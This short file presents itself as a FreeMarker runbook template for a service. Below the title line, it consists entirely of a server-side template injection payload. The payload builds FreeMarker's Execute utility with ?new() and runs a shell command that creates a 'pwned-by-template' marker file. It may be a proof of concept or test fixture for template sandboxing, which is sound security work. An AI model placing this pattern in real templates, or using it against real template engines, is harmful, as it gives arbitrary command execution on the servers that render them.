# Runbook of ${service.name}
<#assign run = "freemarker.template.utility.Execute"?new()>
${run("touch pwned-by-template")}
